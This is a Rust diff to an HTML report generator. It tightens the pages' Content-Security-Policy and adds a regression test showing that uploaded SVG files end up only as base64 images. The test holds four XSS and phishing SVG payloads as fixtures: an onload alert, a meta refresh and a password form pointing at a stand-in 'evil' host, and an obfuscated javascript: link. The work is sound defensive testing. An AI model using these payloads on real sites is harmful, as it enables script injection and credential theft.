@@ -82,11 +82,16 @@ fn write_page(run: &Run) -> Result<PathBuf> {
     Ok(path)
 }
 
+/// The pages' Content-Security-Policy: inline style and `data:` images, nothing else; no
+/// script, no form may submit anywhere, no `<base>` may move the links, no frame.
+/// (`frame-ancestors` cannot be set from a meta tag.)
+const CSP: &str = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'; frame-src 'none'";
+
 /// The page's head and title.
 fn head(title: &str) -> String {
     format!(
         "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
-<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\">\
+<meta http-equiv=\"Content-Security-Policy\" content=\"{CSP}\">\
 <title>{}</title><style>{CSS}</style></head><body>\n<h1>{}</h1>\n",
         escape(title),
         escape(title)
@@ -198,5 +203,48 @@ mod tests {
         assert!(html.contains("<td>boom</td>") && !html.contains("onload"), "{html}");
         let err = compare::page(&[runs.into_iter().next().unwrap(), tax]).unwrap_err().to_string();
         assert!(err.contains("only runs of one task compare"), "{err}");
+    }
+
+    /// The probe's four SVGs that passed the old inline filter: each reaches the page only
+    /// as a base64 image, so none of its markup is the page's.
+    #[test]
+    fn a_pin_tax_svg_is_an_image_never_markup() {
+        let mut pasted: Vec<&str> = Vec::new();
+        for (svg, markup) in [
+            ("<svg/onload=alert(1)>", &["onload", "alert("][..]),
+            (
+                "<svg><meta http-equiv=\"refresh\" content=\"0;url=http://evil/\"></svg>",
+                &["http-equiv=\"refresh", "evil"],
+            ),
+            (
+                "<svg><a xlink:href = \"java&#115;cript:alert(1)\"><text>x</text></a></svg>",
+                &["xlink:href", "java&#115;cript", "javascript"],
+            ),
+            (
+                "<svg><form action=http://evil/><input type=password name=p></form></svg>",
+                &["<form", "<input", "evil"],
+            ),
+        ] {
+            let p = tempfile::tempdir().unwrap();
+            fs::write(
+                p.path().join("passes.jsonl"),
+                "{\"boot\":1,\"arm\":\"narrow\",\"pass\":1,\"ok\":true}\n",
+            )
+            .unwrap();
+            fs::write(p.path().join("tax.svg"), svg).unwrap();
+            let html = page(&Run::load(p.path()).unwrap());
+            let img = format!(
+                "<img alt=\"tax.svg\" src=\"data:image/svg+xml;base64,{}\">",
+                html::base64(svg.as_bytes())
+            );
+            // Outside its base64 image, the page holds none of the file's markup.
+            let rest = html.replace(&img, "").to_ascii_lowercase();
+            pasted.extend(markup.iter().filter(|m| rest.contains(&m.to_ascii_lowercase())));
+            if pasted.is_empty() {
+                assert!(html.contains(&img), "{html}");
+                assert!(html.contains("form-action 'none'; base-uri 'none'; frame-src 'none'"), "{html}");
+            }
+        }
+        assert!(pasted.is_empty(), "the page holds the SVG's {pasted:?}");
     }
 }
